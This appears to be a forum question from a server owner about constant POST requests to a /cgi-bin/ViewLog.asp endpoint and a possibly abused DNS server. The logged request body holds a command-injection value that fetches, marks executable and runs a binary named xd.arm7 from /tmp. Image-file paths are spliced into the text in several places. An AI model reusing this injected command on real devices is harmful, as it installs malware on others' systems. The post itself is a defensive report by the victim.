Constant POST request spam to /cgi-bin/ViewLog.asp endpoint

I’ve got a DigitalOcean server that I use for different temporary servers. Lately I’ve found that sometimes I get a constant spam of the following requests:

POST  Headers:     Host:     Connection: keep-alive     Accept-Encoding": gzip, deflate     Accept: */*     User-Agent: B4ckdoor-owned-you     Content-Length: 176     Content-Type: application/x-www-form-urlencoded  Body: {     "remote_submit_Flag": "1", // Space is not a typo     "remote_syslog_Flag": "1",     "RemoteSyslogSupported":"1",     "LogFlag": "0",     "remote_host": ";cd /tmp;wget;chmod 777 xd.arm7;./xd.arm7;rm -rf xd.arm" }

Which does not really bother me since I run Node.js servers only. What bothers me is the repetition of the attack and the Host header (although I believe this one can be faked).

I’ve used to run a DNS server that defaulted to Google DNS, that I left unattended for sometime and it gathered 1.5TB of traffic in one month. The named -vshows version 9.11.3-1ubuntu1.12-Ubuntu.Is the server compomised?